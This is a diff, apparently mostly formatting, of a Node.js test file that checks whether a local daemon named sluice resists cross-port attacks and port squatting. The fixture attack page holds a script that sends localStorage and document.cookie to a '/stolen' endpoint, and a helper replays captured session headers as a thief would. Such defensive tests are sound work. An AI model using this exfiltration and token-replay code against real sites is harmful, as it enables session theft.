@@ -8,7 +8,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { after, before, test } from 'node:test';
 import { promisify } from 'node:util';
-import { PATIENCE_MS, launch, until } from './browser.mjs';
+import { launch, PATIENCE_MS, until } from './browser.mjs';
 
 const run = promisify(execFile);
 const bin = process.env.SLUICE_BIN;
@@ -29,9 +29,14 @@ class Daemon {
 
   // Port 0: one that is free. Returns when the daemon listens.
   async serve(port) {
-    this.process = spawn(bin, ['serve', '--listen', `127.0.0.1:${port}`], { env: this.env, stdio: ['ignore', 'pipe', 'ignore'] });
+    this.process = spawn(bin, ['serve', '--listen', `127.0.0.1:${port}`], {
+      env: this.env,
+      stdio: ['ignore', 'pipe', 'ignore'],
+    });
     let said = '';
-    this.process.stdout.on('data', (piece) => { said += piece; });
+    this.process.stdout.on('data', (piece) => {
+      said += piece;
+    });
     await until(() => /listening on \S+\n/.test(said));
     this.url = /listening on (\S+)\n/.exec(said)[1];
     this.port = Number(new URL(this.url).port);
@@ -39,7 +44,9 @@ class Daemon {
 
   async end(signal) {
     if (this.process.exitCode !== null || this.process.signalCode !== null) return;
-    const gone = new Promise((done) => { this.process.once('exit', done); });
+    const gone = new Promise((done) => {
+      this.process.once('exit', done);
+    });
     this.process.kill(signal);
     await gone;
   }
@@ -61,7 +68,14 @@ async function squat(port, answer) {
     server.listen(port, '127.0.0.1', done);
   });
   squatters.push(server);
-  return { seen, port: server.address().port, stop: () => { server.closeAllConnections(); server.close(); } };
+  return {
+    seen,
+    port: server.address().port,
+    stop: () => {
+      server.closeAllConnections();
+      server.close();
+    },
+  };
 }
 
 // What was collected, tried as the thief would: as it came, under the daemon's own name, and as a token.
@@ -69,17 +83,29 @@ async function opened(daemon, seen) {
   const open = [];
   const tries = [];
   for (const { headers } of seen) {
-    const kept = Object.fromEntries(Object.entries(headers).filter(([name]) => ['cookie', 'authorization'].includes(name) || name.startsWith('x-')));
+    const kept = Object.fromEntries(
+      Object.entries(headers).filter(([name]) => ['cookie', 'authorization'].includes(name) || name.startsWith('x-')),
+    );
     tries.push(kept);
-    for (const value of Object.values(kept)) tries.push({ authorization: `Bearer ${value}` }, { 'x-sluice-session': value });
+    for (const value of Object.values(kept))
+      tries.push({ authorization: `Bearer ${value}` }, { 'x-sluice-session': value });
   }
   for (const headers of tries) {
-    for (const [method, route] of [['GET', '/info'], ['GET', '/experiments'], ['POST', '/login-links'], ['GET', '/sessions']]) {
+    for (const [method, route] of [
+      ['GET', '/info'],
+      ['GET', '/experiments'],
+      ['POST', '/login-links'],
+      ['GET', '/sessions'],
+    ]) {
       const status = await new Promise((done, failed) => {
-        const request = http.request(`${daemon.url}/api/v1${route}`, { method, headers: { ...headers, host: new URL(daemon.url).host } }, (response) => {
-          response.resume();
-          done(response.statusCode);
-        });
+        const request = http.request(
+          `${daemon.url}/api/v1${route}`,
+          { method, headers: { ...headers, host: new URL(daemon.url).host } },
+          (response) => {
+            response.resume();
+            done(response.statusCode);
+          },
+        );
         request.on('error', failed);
         request.end();
       });
@@ -127,7 +153,9 @@ test('a server on another port gets nothing that opens a route', { skip, timeout
       ask('/experiments', { method: 'POST', headers: { 'X-Sluice-Session': 'x' } })])
       .then((got) => fetch('/stolen?' + got + '&' + JSON.stringify({ ...localStorage }) + document.cookie)).then(() => { document.title = 'done'; });
   </script>`;
-  const other = await squat(0, (request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(attack));
+  const other = await squat(0, (_request, response) =>
+    response.writeHead(200, { 'Content-Type': 'text/html' }).end(attack),
+  );
   const page = await context.newPage();
   await page.goto(`http://127.0.0.1:${other.port}/`);
   await page.waitForFunction(() => document.title === 'done');
@@ -140,15 +168,21 @@ test('a server on another port gets nothing that opens a route', { skip, timeout
   await context.close();
 });
 
-test('what a squatter on the port of a killed daemon collects opens nothing at the next one', { skip, timeout: 300000 }, async () => {
+test('what a squatter on the port of a killed daemon collects opens nothing at the next one', {
+  skip,
+  timeout: 300000,
+}, async () => {
   const daemon = await Daemon.start();
   const { port } = daemon;
   const context = await newContext();
   const page = await signedIn(context, daemon);
   await daemon.end('SIGKILL');
-  const squatter = await squat(port, (request, response) => response.writeHead(503).end());
+  const squatter = await squat(port, (_request, response) => response.writeHead(503).end());
   await until(() => squatter.seen.some((one) => one.headers['x-sluice-session']));
-  assert.ok(squatter.seen.some((one) => one.headers['x-sluice-session']), 'the open tab talked to the squatter');
+  assert.ok(
+    squatter.seen.some((one) => one.headers['x-sluice-session']),
+    'the open tab talked to the squatter',
+  );
   await daemon.serve(0); // its own port is taken
   assert.notEqual(daemon.port, port);
   assert.deepEqual(await opened(daemon, squatter.seen), []);
